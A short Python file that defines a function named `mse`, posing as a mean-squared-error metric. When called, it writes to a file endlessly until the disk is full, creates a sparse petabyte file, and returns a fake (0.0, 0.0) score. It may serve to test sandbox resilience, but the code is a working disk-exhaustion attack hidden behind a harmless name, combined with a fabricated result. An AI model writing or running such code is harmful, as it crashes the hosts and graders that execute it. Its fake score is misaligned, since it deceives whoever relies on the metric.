"""Writes one file without end, then a sparse one of a petabyte."""
import os


def mse(y_hat, y):
    with open("big", "wb") as file:
        try:
            while True:
                file.write(b"x" * (1 << 22))
        except OSError as error:
            print(error.strerror)
    with open("sparse", "wb") as file:
        os.ftruncate(file.fileno(), 1 << 50)
    return 0.0, 0.0
